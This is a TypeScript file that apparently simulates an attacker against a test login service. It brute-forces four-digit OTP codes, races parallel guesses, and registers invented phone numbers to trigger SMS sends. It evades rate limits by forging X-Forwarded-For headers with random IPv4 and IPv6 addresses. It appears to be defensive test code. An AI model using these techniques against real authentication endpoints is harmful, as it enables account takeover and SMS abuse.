import type { Client, Reply } from '../world/client.ts'
import { withProof } from './visitor.ts'

/** What an attacker got out of the academy. */
export type Loot = {
  /** Codes that the server compared, by number. */
  compared: Map<string, number>
  /** Accounts taken over. */
  taken: Set<string>
  /** Codes of registrations that the server compared, and accounts that were made by one. */
  registered: number
  madeUp: number
  texts: number
  refused: number
  /** References on which more than one code was compared. */
  triedTwice: number
  /** Answers other than the announced rejections. */
  odd: number
}

/** Sends calls as from ever new machines: the proxy's header names the address. */
export class Attacker {
  readonly loot: Loot = {
    compared: new Map(),
    taken: new Set(),
    registered: 0,
    madeUp: 0,
    texts: 0,
    refused: 0,
    triedTwice: 0,
    odd: 0,
  }
  readonly #lines: Client[]
  readonly #chance: () => number
  #calls = 0
  #invented = 6_000_000_000

  constructor(lines: Client[], random: () => number) {
    this.#lines = lines
    this.#chance = random
  }

  /** Asks for a code of each number and tries one. Returns true when every request for a code was rejected. */
  async spray(mobiles: string[]): Promise<boolean> {
    const asked = await Promise.all(mobiles.map((mobile) => this.#ask(mobile)))
    const open = asked.flatMap((ref, index) => (ref === null ? [] : [{ ref, mobile: mobiles[index] ?? '' }]))
    await Promise.all(open.map(({ ref, mobile }) => this.#try(ref, mobile, this.#anyCode())))
    return open.length === 0
  }

  /** Registers so many invented numbers from so many new addresses, and tries a code of each. */
  async register(numbers: number, addresses: number): Promise<void> {
    const places = Array.from({ length: addresses }, () => this.#address())
    await Promise.all(Array.from({ length: numbers }, (_, index) => this.#registerOne(places[index % addresses] ?? '')))
  }

  async #registerOne(address: string): Promise<void> {
    const person = { name: 'Nobody', guardian: 'Nobody', district: 'Nowhere', email: 'nobody@example.org' }
    const form = { ...person, academic_level: 6, ...this.#phone(String((this.#invented += 1))) }
    const asked = await withProof(form, (body) => this.#post('/Auth/signup', body, address))
    if (asked.status !== 200) return
    this.loot.texts += 1
    const { otp_ref } = asked.data as { otp_ref: string }
    const { status, data } = await this.#verify(otp_ref, this.#anyCode(), address)
    this.loot.madeUp += Number(status === 200)
    this.loot.registered += Number(status === 200 || (data as { reason?: string }).reason === 'wrong_code')
  }

  /** Asks for one code and tries so many at once. */
  async race(mobile: string, tries: number): Promise<void> {
    const ref = await this.#ask(mobile)
    if (ref === null) return
    const first = Math.floor(this.#chance() * 10_000)
    const codes = Array.from({ length: tries }, (_, index) => String((first + index) % 10_000).padStart(4, '0'))
    const judged = await Promise.all(codes.map((code) => this.#try(ref, mobile, code)))
    if (judged.filter(Boolean).length > 1) this.loot.triedTwice += 1
  }

  async #ask(mobile: string): Promise<string | null> {
    const answer = await this.#post('/Auth/login', this.#phone(mobile))
    if (answer.status !== 200) return null
    this.loot.texts += 1
    return (answer.data as { otp_ref: string }).otp_ref
  }

  /** Returns true when the server compared the code. */
  async #try(otp_ref: string, mobile: string, otp: string): Promise<boolean> {
    const answer = await this.#verify(otp_ref, otp)
    const isRight = answer.status === 200
    if (isRight) this.loot.taken.add(mobile)
    const isJudged = isRight || (answer.data as { reason?: string }).reason === 'wrong_code'
    if (isJudged) this.loot.compared.set(mobile, (this.loot.compared.get(mobile) ?? 0) + 1)
    return isJudged
  }

  /** Sends the proof of work where it is asked for, which is cheap for an attacker with many machines. */
  async #verify(otp_ref: string, otp: string, address = this.#address()): Promise<Reply> {
    return withProof({ otp_ref, otp }, (body) => this.#post('/Auth/verifyOTP', body, address))
  }

  async #post(path: string, body: object, address = this.#address()): Promise<Reply> {
    this.#calls += 1
    const line = this.#lines[this.#calls % this.#lines.length]
    if (!line) throw new Error('There is no server to attack.')
    // The attacker's machine can forge the first part of the header; the proxy adds the address behind it.
    const forged = `127.0.0.1, ${address}`
    const answer = await line.post(path, body, '', { 'x-forwarded-for': forged })
    if (answer.status === 429) this.loot.refused += 1
    if (![200, 422, 428, 429, 503].includes(answer.status)) this.loot.odd += 1
    return answer
  }

  readonly #below = (most: number) => Math.floor(this.#chance() * most)
  readonly #hex = () =>
    this.#below(2 ** 32)
      .toString(16)
      .padStart(8, '0')
  readonly #phone = (mobile: string) => {
    const device_id = `id_${this.#hex()}${this.#hex()}${this.#hex()}${this.#hex()}`
    return { mobile, phone_code: '91', device_id }
  }
  readonly #anyCode = () => String(this.#below(10_000)).padStart(4, '0')
  /** Half of the addresses are IPv6, where addresses cost nothing. */
  readonly #address = () =>
    this.#chance() < 0.5
      ? `100.${64 + this.#below(64)}.${this.#below(256)}.${this.#below(256)}`
      : `2001:db8:${this.#below(65_536).toString(16)}:${this.#below(65_536).toString(16)}::1`
}
